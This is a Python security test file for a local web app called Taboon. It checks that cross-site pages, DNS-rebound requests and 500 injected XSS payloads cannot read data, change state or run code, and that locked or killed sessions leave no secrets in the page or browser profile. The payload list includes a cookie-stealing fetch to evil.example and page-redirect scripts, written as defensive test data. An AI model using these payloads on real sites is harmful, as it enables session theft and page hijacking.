"""What hostile web sites and hostile texts get of a page in the same browser: nothing."""

from __future__ import annotations

import http.server
import os
import signal
import threading
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from taboon_client.blocking import Taboon
from taboon_client.board import Details, Line, Need, Pledge, PrivateNote
from taboon_client.board.register_kinds import AreaTerm, CategoryTerm, Question
from taboon_client.page.render import visible
from taboon_client.views.filters import View
from taboon_client.views.matching import Helping
from tests.page.browsing import Person, start_with_profile
from tests.page.seeding import founded
from tests.page.test_gate import state_of
from tests.support import PASSPHRASE

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Playwright

    from taboon_client.blocking import Group
    from taboon_crypto.slots import Cost
    from tests.page.conftest import MakePerson
    from tests.relay_process import RelayProcess

NAVIGATE = """() => { const form = document.createElement("form"); form.method = "post"; form.enctype = "text/plain";
  form.action = "http://127.0.0.1:PORT/lock"; document.body.append(form); form.submit(); }"""
REBOUND = """async () => Promise.all([
  ["GET", "/"], ["GET", "/page.js"], ["GET", "/home"], ["POST", "/enter"], ["POST", "/lock"], ["GET", "/news"],
].map(async ([method, path]) => {
  const body = method === "POST" ? "{}" : undefined;
  const got = await fetch(path, { method, body, headers: { "Content-Type": "application/json" } }).catch(() => null);
  return got ? [got.status, await got.text()] : [404, ""]; // the browser itself may forbid it
}))"""
CANARY = "xylophone-canary-5521"

HERE = Path(__file__).parent
NO_ELEMENTS = "#page :is(script,img,iframe,object,embed,style,link,base,meta,video,template,math,marquee,table,body)"


@pytest.fixture
def evil_site() -> Iterator[tuple[str, dict[str, str]]]:
    """A web site on another port of the same machine, and what it shows by path."""
    shown: dict[str, str] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = shown.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", shown
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
def test_a_hostile_site_in_the_same_browser_gets_no_answer_and_changes_nothing(
    person: MakePerson, evil_site: tuple[str, dict[str, str]], host: str
) -> None:
    amal = person("amal")
    site, shown = evil_site
    # From another port of this machine, and from another site, which Chromium knows to be at this machine too.
    site = site.replace("127.0.0.1", host)
    shown["/evil"] = (HERE / "evil.html").read_text("utf-8").replace("PORT", str(amal.process.port))
    before = state_of(amal.folder)
    evil = amal.page.context.new_page()
    amal.watched = False
    evil.goto(f"{site}/evil")
    assert evil.evaluate("window.finished") == []
    framed = [frame.url for frame in evil.frames[1:]]
    # What is refused leaves a frame blank, or with a page of the browser's own.
    told = [frame.evaluate("document.body.innerText") for frame in evil.frames[1:] if frame.url == "about:blank"]
    assert not any("Taboon" in text for text in told)
    assert not [url for url in framed if url.startswith(amal.process.url)]
    assert evil.evaluate("document.cookie") == ""
    with evil.expect_response(f"{amal.process.url}lock") as navigated:
        evil.evaluate(NAVIGATE.replace("PORT", str(amal.process.port)))
    assert navigated.value.status == 404
    evil.close()
    assert amal.page.evaluate("document.cookie") == ""
    assert state_of(amal.folder) == before
    amal.press("Settings")
    amal.sees("Change the passphrase")


def test_a_name_that_is_pointed_at_this_machine_reads_and_changes_nothing(person: MakePerson) -> None:
    amal = person("amal")
    amal.watched = False
    before = state_of(amal.folder)
    rebound = f"http://evil.example:{amal.process.port}"
    evil = amal.page.context.new_page()
    # At first the name led to the site of whoever has it; from then on it leads here.
    evil.route(f"{rebound}/first", lambda route: route.fulfill(body="<!doctype html>", content_type="text/html"))
    evil.goto(f"{rebound}/first")
    evil.unroute_all()
    told = evil.evaluate(REBOUND)
    assert told == [[404, ""]] * len(told)
    assert len(told) == 6
    with evil.expect_response(f"{rebound}/") as navigated:
        evil.evaluate("location.href = '/'")
    assert navigated.value.status == 404
    evil.close()
    assert state_of(amal.folder) == before
    amal.press("Settings")
    amal.sees("Change the passphrase")


def test_a_link_from_elsewhere_opens_the_constant_shell_and_keeps_no_hold_on_it(
    person: MakePerson, evil_site: tuple[str, dict[str, str]]
) -> None:
    amal = person("amal")
    site, shown = evil_site
    shown["/evil"] = "<!doctype html><title>evil</title>"
    amal.watched = False
    evil = amal.page.context.new_page()
    evil.goto(f"{site}/evil")
    with evil.context.expect_page() as opened:
        evil.evaluate(f"window.held = window.open('{amal.process.url}'), 0")
    opened.value.get_by_label("Code").wait_for()
    assert evil.evaluate("window.held.closed")
    assert opened.value.evaluate("window.opener") is None


def _payloads() -> list[str]:
    """Five hundred texts that some page, somewhere, has carried out."""
    scripts = [
        *("alert(1)", "fetch('//evil.example/'+document.cookie)", "document.title='x'", "print()"),
        "top.location='//evil.example'",
    ]
    forms = [line.encode().decode("unicode_escape") for line in (HERE / "payloads.txt").read_text("ascii").splitlines()]
    found = [form.replace("CODE", script) for form in forms for script in scripts]
    found += [f"{one} {'<b>' * (at % 5)}" for at, one in enumerate(found)]
    return [one[:130] for one in found][:500]


def test_nothing_that_members_write_is_ever_more_than_text(
    browser: Browser, relay: RelayProcess, tmp_path: Path, fast_kdf: Cost
) -> None:
    payloads = _payloads()
    assert len(payloads) == 500
    told: list[str] = []

    def fill(group: Group) -> None:
        posts = []
        for at, text in enumerate(payloads):
            need = Need(
                title=text,
                created=0,
                note=text,
                original=f"original {text}",
                area=text[:64],
                category=text[:32],
                tags=(text[:32],),
                urgency_reason=text,
                lines=(Line(quantity=2, unit=text[:32], name=text[:80]),),
            )
            details = Details(names=text, place=text, access=text, note=text)
            posts.append((f"key {at}", need, details))
        group.post_all(posts)
        group.set_category(CategoryTerm(code="own", labels={"en": payloads[2][:60], "ar": payloads[2][:60]}))
        group.set_area(AreaTerm(code="hill", labels={"en": payloads[3][:60]}))
        group.ask(Question(code="q", labels={"en": payloads[4][:60]}, type="one-of", options=(payloads[5][:60], "b")))
        group.set_agreement(payloads[6])
        group.propose(payloads[7], 1_900_000_000)
        group.save_view(payloads[8][:60].strip(), View(text=payloads[9]))
        group.set_helping(Helping(areas=(payloads[10][:60],), skills=(payloads[11][:60],)))
        for at, item in enumerate(group.board()[:3]):
            told.append(item.id.hex())
            group.comment(item, item.title)
            group.pledge(item, said=Pledge(note=payloads[20 + at]))
            group.follow_up(item, 1_900_000_000, item.title)
            group.private_note(item, PrivateNote(about="note", text=payloads[30 + at]))
            group.release(item, payloads[40 + at])
            group.pledge(item)
            group.deliver(item, payloads[50 + at])
            group.pause(item, 0, payloads[60 + at])
            group.outcome(item, payloads[70 + at])
        group.withdraw(group.post(Need(title=payloads[81], created=0)), payloads[80], why="done")
        group.create_circle(payloads[90][:60].strip(), me=payloads[91][:40].strip())
        group.ask(Question(code="knock", labels={"en": payloads[92][:60]}, about=("joining",)))
        group.sync()
        link = group.invite().link
        group.sync()
        with Taboon.create(PASSPHRASE, tmp_path / "other") as other:
            version = other.knock(link).questions[0][0]
            other.join(link, me=payloads[93][:40].strip(), answers={version: payloads[94]}, agreement=payloads[6])
        group.sync()
        group.vouch_for_request(group.requests()[0].code, payloads[95])

    folder = tmp_path / "vault"
    founded(folder, relay.url, payloads[0][:60], payloads[1][:40], fill)
    amal = Person(browser, folder)
    try:
        amal.unlock()
        amal.sees("Your groups")  # the group and its circle
        amal.page.locator("main [data-go^='/board']").first.click()
        amal.sees("Post a need")
        ours = amal.page.evaluate(
            "document.querySelectorAll('#page script, #page img, #page iframe, #page style').length"
        )
        assert ours == 0
        seen: set[str] = set()
        for page in range(25):
            amal.goes_to(f"/board?g={amal.group_code()}&page={page}")
            amal.reads(amal.say("%(page)s of %(pages)s", page=page + 1, pages=25))
            assert amal.page.locator(NO_ELEMENTS).count() == 0
            seen.update(amal.page.locator(".card h2 bdi").all_text_contents())
        assert seen == {visible(text) for text in payloads}
        for item in told:
            amal.goes_to(f"/item?g={amal.group_code()}&i={item}")
            amal.sees("Said about it")
            assert amal.page.locator(NO_ELEMENTS).count() == 0
        assert amal.page.locator(NO_ELEMENTS).count() == 0
        amal.press("Open the sealed details")
        amal.sees("Hide them")
        assert amal.page.evaluate("document.querySelectorAll('#shown :is(script,img,iframe,a,form,b)').length") == 0
        assert amal.page.title() == "Taboon"
        _crawl(amal, payloads)
        assert amal.page.title() == "Taboon"
    finally:
        amal.close()
    assert amal.faults == []


def _crawl(person: Person, payloads: list[str]) -> None:
    """Look at every other screen, with what members wrote in it, and at what a form says of it."""
    code = person.group_code()
    item = person.page.locator("input[name=i]").first.input_value()
    paths = [f"{path}?g={code}" for path, _ in person.screens()]
    paths += [
        f"/change?g={code}&i={item}",
        f"/post?g={code}&kind=offer",
        f"/board?g={code}&text=alert",
        f"/board?g={code}&status=closed",
    ]
    paths += ["/home"]
    for path in paths:
        person.goes_to(path)
        assert person.page.locator(NO_ELEMENTS.replace(",table", "")).count() == 0, path
        # Our own header alone locks, and nothing that was written is a link or a form of the page.
        assert person.page.locator("[data-to='/lock'], [data-go='/lock']").count() == 1, path
        assert person.page.evaluate("document.querySelectorAll('a[href]:not([href=\"/\"])').length") == 0, path
    person.goes_to(f"/import?g={code}")
    person.fill("Or paste the text", "\n\n".join(["need " + one.replace("\n", " ") for one in payloads[:100]]))
    person.press("Look at it first")
    person.sees("Post what is ticked")
    assert person.page.evaluate("document.querySelectorAll('#shown :is(script,img,iframe,a,svg,style)').length") == 0


def test_a_text_that_overrides_direction_moves_nothing_around_it() -> None:
    assert visible("a\u202eb\u2066c\u202c\x1b[31m") == "abc[31m"
    assert visible("سلام\u200cها") == "سلام\u200cها"


def test_lock_leaves_nothing_on_the_screen(person: MakePerson, relay: RelayProcess) -> None:
    amal = person("amal")
    amal.found_group(relay.url, CANARY, "Amal")
    amal.reads(CANARY)
    amal.press("Lock")
    amal.sees("The passphrase opens the vault on this device.")
    assert CANARY not in amal.page.content()
    amal.unlock()
    amal.reads(CANARY)
    amal.lock_elsewhere()
    amal.sees("The passphrase opens the vault on this device.")
    assert CANARY not in amal.page.content()
    amal.page.go_back()
    amal.sees("The passphrase opens the vault on this device.")
    assert CANARY not in amal.page.content()
    amal.faults.clear()


def test_a_killed_page_blanks_too(person: MakePerson, relay: RelayProcess) -> None:
    amal = person("amal")
    amal.found_group(relay.url, CANARY, "Amal")
    amal.reads(CANARY)
    amal.watched = False
    os.kill(amal.process.pid, signal.SIGTERM)
    amal.page.get_by_label("Code").wait_for()
    assert CANARY not in amal.page.content()
    amal.faults.clear()


def test_a_browser_that_is_killed_leaves_nothing_of_the_vault_in_its_profile(
    playwright: Playwright, relay: RelayProcess, tmp_path: Path, fast_kdf: Cost
) -> None:
    profile = tmp_path / "profile"
    person = Person(start_with_profile(playwright, profile), tmp_path / "vault")
    person.make_vault()
    person.found_group(relay.url, f"group-{CANARY}", f"me-{CANARY}")
    person.press("Post a need")
    person.fill("What is needed, in a few words", f"title-{CANARY}")
    person.open_fold("Sealed details: who, where, phone")
    person.fill("The exact place", f"place-{CANARY}")
    person.press("Post it")
    person.sees("Posted.")
    person.press("Open the sealed details")
    person.reads(f"place-{CANARY}")
    person.fill("Say something about it", f"typed-{CANARY}")
    for process in Path("/proc").glob("[0-9]*"):
        if str(profile).encode() in (process / "cmdline").read_bytes():
            os.kill(int(process.name), signal.SIGKILL)
    person.process.close()
    held = b"".join(path.read_bytes() for path in profile.rglob("*") if path.is_file())
    assert b"127.0.0.1" in held
    for secret in (CANARY, PASSPHRASE):
        assert secret.encode() not in held
        assert secret.encode("utf-16-le") not in held
